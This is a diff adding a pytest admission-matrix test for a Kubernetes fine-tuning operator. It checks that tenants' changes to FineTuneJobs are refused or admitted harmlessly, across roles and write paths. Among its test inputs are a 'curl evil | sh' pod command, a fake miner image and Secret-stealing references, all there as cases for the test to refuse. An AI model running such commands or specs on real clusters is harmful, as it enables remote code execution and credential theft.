@@ -1,0 +1,457 @@
+"""Every protected field x every way a tenant writes a FineTuneJob x every role, on the real API server with the
+chart's admission policies: each case is refused with a message naming the field and the rule or right it lacks, or
+admitted, and then the object the API server would store is shown harmless (within the limits its job started
+with, run by a user who may do what it does).
+
+The cases are generated: each change of FIELD_CHANGES, applied to each running job of BASES (a job under a runtime,
+a job under the namespace's default, a job running as a ServiceAccount with a Secret), sent by each path of PATHS,
+as each role of ROLES. What should happen is worked out here, not written down: the runtime limits by the
+operator's own check (api/runtime_layers.py: the live runtimes for a create, the recorded snapshot for an update),
+the identity and Secret rules from the role's rights and api/job_rights.py, RBAC from the role. Everything is a
+server-side dry run, so thousands of cases share one namespace and one set of jobs. The runtimes are tightened
+after the jobs started: a create is judged against what they say now, an update against what the job recorded.
+"""
+
+from __future__ import annotations
+
+import copy
+import json
+import re
+import threading
+import time
+from collections.abc import Callable
+from concurrent.futures import ThreadPoolExecutor
+from dataclasses import dataclass
+from typing import Any
+
+import pytest
+
+from finetune_operator.api.job_rights import changed_fields, secret_names
+from finetune_operator.api.runtime import merge
+from finetune_operator.api.runtime_layers import RUNTIME_NOT_ALLOWED, recorded, resolve_offline
+from finetune_operator.api.validation import validate_job
+from finetune_operator.controller.merge_patch import merge_patch
+from finetune_operator.render.rbac import render_trainer_identity
+from tests.builders import make_job
+from tests.cluster.test_tenancy import FTJ, bind, chart_objects, delete_all, wait_can
+from tests.support.tenant_api import Answer, TenantApi
+
+pytestmark = pytest.mark.cluster
+NAMESPACE_LABEL = {"finetunejob.dev/admission-matrix": "yes"}
+QUEUE = "kueue.x-k8s.io/queue-name"
+EVIL = "docker.io/evil/miner:latest"
+
+
+def runtime(name: str, template: dict, limits: dict, default: bool = False, selector: dict | None = None) -> dict:
+    spec: dict[str, Any] = {"default": default, "template": template, "limits": limits}
+    if selector is not None:
+        spec["namespaceSelector"] = selector
+    return {"apiVersion": "finetunejob.dev/v1alpha1", "kind": "ClusterFineTuneRuntime",
+            "metadata": {"name": name}, "spec": spec}
+
+
+OURS = {"matchLabels": NAMESPACE_LABEL}
+# As the jobs start, and as the admin tightens them afterwards (a create is judged by the second, a started job by
+# the first, as recorded).
+STARTED = [
+    runtime("matrix-gpu-small", {"pod": {"image": "registry.local/trainer:ok"}, "distributed": {"gpusPerNode": 2}},
+            {"locked": ["pod.image", "queueName"], "maxNodes": 2, "maxGpusPerJob": 4,
+             "maxActiveDeadlineSeconds": 86400}, selector=OURS),
+    runtime("matrix-gpu-large", {}, {}, selector=OURS),
+    runtime("matrix-elsewhere", {}, {}, selector={"matchLabels": {"team": "someone-else"}}),
+    runtime("matrix-default", {"distributed": {"gpusPerNode": 1}}, {"maxGpusPerJob": 2,
+                                                                    "maxActiveDeadlineSeconds": 86400},
+            default=True, selector=OURS),
+]
+TIGHTENED = [copy.deepcopy(r) for r in STARTED]
+TIGHTENED[0]["spec"]["limits"].update(maxGpusPerJob=2, locked=["pod.image", "queueName", "pod.volumes"])
+TIGHTENED[3]["spec"]["limits"].update(maxGpusPerJob=1)
+
+
+def lean(name: str, ns: str, **spec: Any) -> dict:
+    doc = make_job({"metadata.name": name, "metadata.namespace": ns, "spec.runPolicy": {"activeDeadlineSeconds": 3600}})
+    for section in ("distributed", "resources", "pod"):
+        doc["spec"].pop(section, None)
+    doc["spec"].update(copy.deepcopy(spec))
+    return doc
+
+
+def bases(ns: str) -> dict[str, dict]:
+    return {
+        "under-a-runtime": lean("under-a-runtime", ns, runtimeRef={"name": "matrix-gpu-small"}),
+        "under-the-default": lean("under-the-default", ns),
+        "as-a-service-account": lean("as-a-service-account", ns, runtimeRef={"name": "matrix-gpu-large"},
+                                     pod={"serviceAccountName": "deployer", "image": "registry.local/alice:1",
+                                          "secretEnv": [{"name": "ALICE_TOKEN", "secretName": "alice-token",
+                                                         "key": "token"}]}),
+    }
+
+
+# --- the changes: field -> named edits of a job (each returns the job as the tenant wants it) -------------------
+Change = Callable[[dict], dict]
+
+
+def _at(path: str, value: Any) -> Change:
+    def change(obj: dict) -> dict:
+        node = obj
+        *parents, leaf = path.split(".")
+        for part in parents:
+            node = node.setdefault(part, {})
+        node[leaf] = copy.deepcopy(value)
+        return obj
+    return change
+
+
+def _without(path: str) -> Change:
+    def change(obj: dict) -> dict:
+        node = obj
+        *parents, leaf = path.split(".")
+        for part in parents:
+            node = node.get(part) or {}
+        node.pop(leaf, None)
+        return obj
+    return change
+
+
+def _added(path: str, item: Any) -> Change:
+    def change(obj: dict) -> dict:
+        node = obj
+        *parents, leaf = path.split(".")
+        for part in parents:
+            node = node.setdefault(part, {})
+        node[leaf] = [*node.get(leaf, []), copy.deepcopy(item)]
+        return obj
+    return change
+
+
+def _label(key: str, value: str) -> Change:
+    def change(obj: dict) -> dict:
+        obj["metadata"]["labels"] = {**(obj["metadata"].get("labels") or {}), key: value}
+        return obj
+    return change
+
+
+SECRET_VOLUME = {"name": "creds", "mountPath": "/creds", "secret": "alice-token"}
+CLAIM_VOLUME = {"name": "theirs", "mountPath": "/theirs", "claimName": "someone-elses-claim"}
+FIELD_CHANGES: dict[str, dict[str, Change]] = {
+    "runtimeRef": {"removed": _without("spec.runtimeRef"), "to a looser one": _at("spec.runtimeRef",
+                                                                                  {"name": "matrix-gpu-large"}),
+                   "to one for other namespaces": _at("spec.runtimeRef", {"name": "matrix-elsewhere"}),
+                   "to the strict one": _at("spec.runtimeRef", {"name": "matrix-gpu-small"})},
+    "distributed": {"24 GPUs": _at("spec.distributed", {"numNodes": 3, "gpusPerNode": 8}),
+                    "4 GPUs": _at("spec.distributed", {"numNodes": 2}), "removed": _without("spec.distributed")},
+    "image": {"another": _at("spec.pod.image", EVIL), "removed": _without("spec.pod.image")},
+    "command/args/env": {"env": _added("spec.pod.env", {"name": "PYTHONPATH", "value": "/evil"}),
+                         "command": _at("spec.pod.command", ["sh", "-c", "curl evil | sh"]),
+                         "args": _at("spec.pod.args", ["--evil"]),
+                         "initContainers": _at("spec.pod.initContainers", [{"name": "x", "image": EVIL}])},
+    "volumes": {"a Secret": _added("spec.pod.volumes", SECRET_VOLUME),
+                "another claim": _added("spec.pod.volumes", CLAIM_VOLUME)},
+    "secretEnv": {"an unreadable Secret": _added("spec.pod.secretEnv", {"name": "STOLEN", "secretName": "alice-token",
+                                                                        "key": "token"}),
+                  "a readable Secret": _added("spec.pod.secretEnv", {"name": "MINE", "secretName": "fiona-token",
+                                                                     "key": "token"})},
+    "serviceAccountName": {"deployer": _at("spec.pod.serviceAccountName", "deployer"),
+                           "removed": _without("spec.pod.serviceAccountName")},
+    "imagePullSecrets": {"unreadable": _at("spec.pod.imagePullSecrets", ["alice-token"]),
+                         "readable": _at("spec.pod.imagePullSecrets", ["fiona-token"])},
+    "other Secret references": {"s3": _at("spec.s3", {"credentialsSecret": "alice-token"}),
+                                "hub token": _at("spec.output", {"push": {"repo": "org/model",
+                                                                          "tokenSecret": {"name": "alice-token"}}})},
+    "deadlines": {"over the limit": _at("spec.runPolicy.activeDeadlineSeconds", 999999),
+                  "within": _at("spec.runPolicy.activeDeadlineSeconds", 7200),
+                  "removed": _without("spec.runPolicy.activeDeadlineSeconds")},
+    "queue": {"a queue label": _label(QUEUE, "team-q"),
+              "labels removed": _without("metadata.labels")},
+    "what runs (other fields)": {"training": _at("spec.training", {"learningRate": 0.1}),
+                                 "annotations": _at("spec.pod.annotations", {"vault.example.com/inject": "true"})},
+    "suspend and runPolicy (harmless)": {"suspend": _at("spec.suspend", True),
+                                         "backoffLimit": _at("spec.runPolicy.backoffLimit", 1)},
+}
+UNKNOWN = ("command", "args", "initContainers")  # not in the schema: refused as unknown fields, never pruned
+PATHS = ("create", "update", "merge", "json", "strategic", "apply")
+
+
+@dataclass(frozen=True)
+class Role:
+    name: str
+    writes: bool  # may create/update/patch FineTuneJobs (RBAC)
+    pods: bool  # may create pods (so may run as any ServiceAccount)
+    secrets: frozenset[str] | None  # Secrets it may get (None: every one in the namespace)
+
+
+ROLES = (Role("edit", True, True, None), Role("finetunejob-only", True, False, frozenset({"fiona-token"})),
+         Role("view", False, False, frozenset()), Role("trainer-token", False, False, frozenset()),
+         Role("unbound-sa-token", False, False, frozenset()))
+
+
+# --- the expected outcome -----------------------------------------------------------------------------------------
+def result(base: dict, wanted: dict, path: str) -> dict:
+    """The object the API server would store: what was sent, except server-side apply, which never removes a field
+    the applier did not set before (the base jobs' fields belong to whoever created them)."""
+    if path == "apply":
+        return {**base, "metadata": {**base["metadata"], **merge(base["metadata"], wanted["metadata"])},
+                "spec": merge(base["spec"], wanted["spec"])}
+    return wanted
+
+
+def _ref(obj: dict) -> dict | None:
+    """spec.runtimeRef as stored (the API server fills in its kind)."""
+    ref = obj["spec"].get("runtimeRef")
+    return None if ref is None else {"kind": "ClusterFineTuneRuntime", **ref}
+
+
+def unknown_fields(obj: dict) -> list[str]:
+    return [f"spec.pod.{k}" for k in UNKNOWN if k in (obj["spec"].get("pod") or {})]
+
+
+def expected(role: Role, path: str, base: dict | None, obj: dict, snapshot: dict | None,
+             runtimes: list[dict]) -> set[str]:
+    """Why the API server must refuse `obj` (the empty set: admit it); base None for a create."""
+    if _ref(obj) is not None:
+        obj = {**obj, "spec": {**obj["spec"], "runtimeRef": _ref(obj)}}
+    if not role.writes:
+        return {"rbac"}
+    if path == "strategic":
+        return {"strategic"}
+    if unknown_fields(obj):
+        return {"unknown"}
+    if base is not None and _ref(base) != _ref(obj):
+        return {"immutable"}
+    reasons = set()
+    if base is None:
+        resolved = resolve_offline(obj, runtimes, lambda: {**NAMESPACE_LABEL,
+                                                           "kubernetes.io/metadata.name": obj["metadata"]["namespace"]})
+        if resolved.missing is not None:
+            assert resolved.reason == RUNTIME_NOT_ALLOWED, resolved.missing
+            reasons.add("selector")
+    else:
+        resolved = recorded(obj, snapshot)
+    if resolved.missing is None:
+        validate_job(resolved.obj)  # a malformed case would hide its limits (every case is a valid job)
+        if resolved.errors:
+            reasons.add("limits")
+    changed = changed_fields(base, obj)
+    if changed and (obj["spec"].get("pod") or {}).get("serviceAccountName") and not role.pods:
+        reasons.add("identity")
+    names = {n for ns in secret_names(obj).values() for n in ns}
+    if changed and role.secrets is not None and names - role.secrets:
+        reasons.add("secrets")
+    return reasons
+
+
+def said(reason: str, answer: Answer, obj: dict, base: dict | None, snapshot: dict | None,
+         runtimes: list[dict]) -> bool:
+    """The refusal is this reason's, and names the field and what is missing."""
+    m = answer.message
+    if reason == "rbac":
+        return answer.status == 403 and "cannot" in m
+    if reason == "strategic":
+        return answer.status == 415
+    if reason == "unknown":
+        # Server-side apply says it while building the typed patch (500, "field not declared in schema").
+        return answer.status in (400, 422, 500) and ("unknown field" in m or "field not declared in schema" in m) \
+            and any(f in m for f in unknown_fields(obj))
+    if reason == "immutable":
+        return answer.status == 422 and "spec.runtimeRef is immutable" in m
+    if reason == "selector":
+        return answer.status == 403 and "may not be used in namespace" in m and "spec.runtimeRef" in m
+    if reason == "limits":
+        errors = (resolve_offline(obj, runtimes).errors if base is None else recorded(obj, snapshot).errors)
+        limits = {re.search(r"limits\.\w+", e.message)[0] for e in errors}
+        return answer.status == 403 and any(limit in m for limit in limits)
+    if reason == "identity":
+        fields = changed_fields(base, obj)
+        named = "spec.pod.serviceAccountName" if base is None else None
+        return answer.status == 403 and "needs the right to create pods" in m and (
+            (named is not None and named in m) or any(f in m for f in fields))
+    if reason == "secrets":
+        refs = secret_names(obj)
+        return answer.status == 403 and "may not get it" in m and any(
+            f"{field}" in m and f"Secret {n}" in m for field, names in refs.items() for n in names)
+    raise AssertionError(reason)
+
+
+# --- the requests ---------------------------------------------------------------------------------------------------
+def json_patch(before: Any, after: Any, at: str = "") -> list[dict]:
+    ops: list[dict] = []
+    for key in before:
+        if key not in after:
+            ops.append({"op": "remove", "path": f"{at}/{_escape(key)}"})
+    for key, value in after.items():
+        where = f"{at}/{_escape(key)}"
+        if key not in before:
+            ops.append({"op": "add", "path": where, "value": value})
+        elif isinstance(value, dict) and isinstance(before[key], dict):
+            ops += json_patch(before[key], value, where)
+        elif value != before[key]:
+            ops.append({"op": "replace", "path": where, "value": value})
+    return ops
+
+
+def _escape(key: str) -> str:
+    return key.replace("~", "~0").replace("/", "~1")
+
+
+def _writable(obj: dict) -> dict:
+    labels = obj["metadata"].get("labels")
+    return {"metadata": {"labels": labels} if labels is not None else {}, "spec": obj["spec"]}
+
+
+def send(api: TenantApi, path: str, stored: dict, wanted: dict, name: str) -> Answer:
+    ns = stored["metadata"]["namespace"]
+    if path == "create":
+        fresh = {"apiVersion": wanted["apiVersion"], "kind": wanted["kind"],
+                 "metadata": {"name": name, "namespace": ns, "labels": wanted["metadata"].get("labels") or {}},
+                 "spec": wanted["spec"]}
+        return api.create(fresh)
+    if path == "update":
+        return api.update({**stored, "metadata": {**stored["metadata"], "labels": wanted["metadata"].get("labels")},
+                           "spec": wanted["spec"]})
+    if path in ("merge", "strategic"):
+        return api.patch(ns, stored["metadata"]["name"], path, merge_patch(_writable(stored), _writable(wanted)))
+    if path == "json":
+        ops = json_patch(_writable(stored), _writable(wanted)) or [{"op": "test", "path": "/spec", "value":
+                                                                   stored["spec"]}]
+        return api.patch(ns, stored["metadata"]["name"], "json", ops)
+    applied = {"apiVersion": wanted["apiVersion"], "kind": wanted["kind"],
+               "metadata": {"name": stored["metadata"]["name"], "namespace": ns,
+                            **({"labels": wanted["metadata"]["labels"]} if wanted["metadata"].get("labels") else {})},
+               "spec": wanted["spec"]}
+    return api.patch(ns, stored["metadata"]["name"], "apply", applied, manager=f"tenant-{api.user or 'token'}")
+
+
+# --- the world ------------------------------------------------------------------------------------------------------
+def _apply(kubectl, *docs: dict) -> None:
+    kubectl.run("apply", "-f", "-", input=json.dumps({"apiVersion": "v1", "kind": "List", "items": list(docs)}))
+
+
+def _until(check: Callable[[], bool], what: str, timeout: float = 30) -> None:
+    deadline = time.monotonic() + timeout
+    while not check():
+        assert time.monotonic() < deadline, what
+        time.sleep(0.3)
+
+
+@pytest.fixture(scope="module")
+def world(control_plane, kubectl):
+    """One namespace: the chart's user roles and admission policies, three running jobs, five roles."""
+    ns = "admission-matrix"
+    kubectl.run("create", "namespace", ns)
+    kubectl.run("label", "namespace", ns, *(f"{k}={v}" for k, v in NAMESPACE_LABEL.items()))
+    docs = []
+    for template in ("user-roles.yaml", "admission-policy-runtimes.yaml", "admission-policy-identity.yaml"):
+        docs += chart_objects(control_plane, kubectl, template)
+    try:
+        _apply(kubectl, *render_trainer_identity(ns, None))
+        kubectl.run("create", "serviceaccount", "deployer", "-n", ns)
+        kubectl.run("create", "rolebinding", "deployer-edit", "--clusterrole=edit", f"--serviceaccount={ns}:deployer",
+                    "-n", ns)
+        for secret in ("alice-token", "fiona-token"):
+            kubectl.run("create", "secret", "generic", secret, "--from-literal=token=t", "-n", ns)
+        bind(kubectl, ns, "eddie", "edit")
+        bind(kubectl, ns, "vera", "view")
+        kubectl.run("create", "role", "ftj-only", "--verb=create,get,list,update,patch,delete", f"--resource={FTJ}",
+                    "-n", ns)
+        kubectl.run("create", "rolebinding", "ftj-only", "--role=ftj-only", "--user=fiona", "-n", ns)
+        kubectl.run("create", "role", "fiona-token", "--verb=get", "--resource=secrets", "--resource-name=fiona-token",
+                    "-n", ns)
+        kubectl.run("create", "rolebinding", "fiona-token", "--role=fiona-token", "--user=fiona", "-n", ns)
+        # A trainer's pod-bound token (as a trainer pod has) and a token of the same ServiceAccount bound to nothing.
+        pod = {"apiVersion": "v1", "kind": "Pod", "metadata": {"name": "under-a-runtime-a1-0-abcde", "namespace": ns},
+               "spec": {"serviceAccountName": "finetunejob-trainer", "restartPolicy": "Never",
+                        "containers": [{"name": "c", "image": "busybox"}]}}
+        _apply(kubectl, pod)
+        uid = kubectl.json("get", "pod", pod["metadata"]["name"], "-n", ns)["metadata"]["uid"]
+        bound = kubectl.run("create", "token", "finetunejob-trainer", "-n", ns, "--bound-object-kind=Pod",
+                            f"--bound-object-name={pod['metadata']['name']}", f"--bound-object-uid={uid}"
+                            ).stdout.strip()
+        unbound = kubectl.run("create", "token", "finetunejob-trainer", "-n", ns).stdout.strip()
+        wait_can(kubectl, "eddie", ns, "create", FTJ)
+        wait_can(kubectl, "vera", ns, "list", FTJ)
+        apis = {"edit": TenantApi(control_plane.kubeconfig, user="eddie"),
+                "finetunejob-only": TenantApi(control_plane.kubeconfig, user="fiona"),
+                "view": TenantApi(control_plane.kubeconfig, user="vera"),
+                "trainer-token": TenantApi(control_plane.kubeconfig, token=bound),
+                "unbound-sa-token": TenantApi(control_plane.kubeconfig, token=unbound)}
+
+        # The jobs start under the runtimes as they are; the operator's record of them is its own function's.
+        _apply(kubectl, *STARTED)
+        stored = {}
+        for name, job in bases(ns).items():
+            _apply(kubectl, job)
+            resolved = resolve_offline(job, STARTED)
+            assert not resolved.errors and resolved.snapshot is not None, (name, resolved)
+            kubectl.run("patch", "ftj", name, "-n", ns, "--subresource=status", "--type=merge", "-p", json.dumps(
+                {"status": {"phase": "Running", "attempt": 1, "runtime": resolved.snapshot}}))
+            stored[name] = kubectl.json("get", "ftj", name, "-n", ns)
+        _apply(kubectl, *TIGHTENED)
+        # In force: the tightened limit refuses a create (the policies have seen the params).
+        probe = lean("probe", ns, runtimeRef={"name": "matrix-gpu-small"}, distributed={"numNodes": 2})
+        _until(lambda: "limits.maxGpusPerJob = 2" in apis["edit"].create(probe).message,
+               "the tightened runtime never reached the admission policies")
+        yield ns, apis, stored
+    finally:
+        delete_all(kubectl, docs)
+        for doc in STARTED:
+            kubectl.run("delete", doc["kind"], doc["metadata"]["name"], "--ignore-not-found", check=False)
+        kubectl.run("delete", "namespace", ns, "--wait=false")
+
+
+def cases() -> list[tuple[str, str, str, str]]:
+    return [(field, change, base, path) for field, changes in FIELD_CHANGES.items() for change in changes
+            for base in ("under-a-runtime", "under-the-default", "as-a-service-account") for path in PATHS]
+
+
+def test_every_field_every_path_every_role_is_refused_naming_why_or_is_harmless(world):
+    ns, apis, stored = world
+    outcomes: dict[str, int] = {}
+    failures: list[str] = []
+    lock = threading.Lock()
+
+    def count(key: str) -> None:
+        with lock:
+            outcomes[key] = outcomes.get(key, 0) + 1
+
+    def run(case: tuple[str, str, str, str], role: Role, index: int) -> None:
+        field, change, base_name, path = case
+        base = stored[base_name]
+        snapshot = base["status"]["runtime"]
+        wanted = FIELD_CHANGES[field][change](copy.deepcopy({k: base[k] for k in ("apiVersion", "kind", "metadata",
+                                                                                   "spec")}))
+        creating = path == "create"
+        obj = result(base, wanted, path)
+        if creating:
+            obj = {**obj, "metadata": {**obj["metadata"], "name": f"new-{index}"}}
+        why = expected(role, path, None if creating else base, obj, snapshot, TIGHTENED)
+        answer = send(apis[role.name], path, base, wanted, f"new-{index}")
+        label = f"{role.name} / {path} / {base_name} / {field}: {change}"
+        if not why:
+            if not answer.admitted:
+                failures.append(f"{label}: refused, expected admitted: {answer.status} {answer.message[:300]}")
+                return
+            # Shown harmless on the object the API server would store.
+            stored_obj = answer.body
+            again = expected(role, path, None if creating else base, stored_obj, snapshot, TIGHTENED)
+            if again:
+                failures.append(f"{label}: admitted, and the stored object breaks {again}")
+            count("admitted (harmless)")
+            return
+        if answer.admitted:
+            failures.append(f"{label}: admitted, expected refused for {sorted(why)}")
+        elif not any(said(reason, answer, obj, None if creating else base, snapshot, TIGHTENED) for reason in why):
+            failures.append(f"{label}: refused, but not saying {sorted(why)}: {answer.status} {answer.message[:400]}")
+        else:
+            count("refused: " + "/".join(sorted(why)))
+
+    work = [(case, role, i) for i, (case, role) in enumerate((c, r) for c in cases() for r in ROLES)]
+    started = time.monotonic()
+    with ThreadPoolExecutor(4) as pool:
+        list(pool.map(lambda w: run(*w), work))
+    elapsed = time.monotonic() - started
+    print(f"\n{len(work)} cases in {elapsed:.1f} s: " + ", ".join(f"{k}: {v}" for k, v in sorted(outcomes.items())))
+    assert not failures, f"{len(failures)} of {len(work)} cases:\n" + "\n".join(failures[:40])
+    # Every reason was met somewhere (a matrix whose cases all pass for one reason proves little).
+    seen = {r for key in outcomes for r in key.removeprefix("refused: ").split("/")}
+    assert {"rbac", "strategic", "unknown", "immutable", "selector", "limits", "identity", "secrets"} <= seen, outcomes
+    assert outcomes.get("admitted (harmless)", 0) > 0
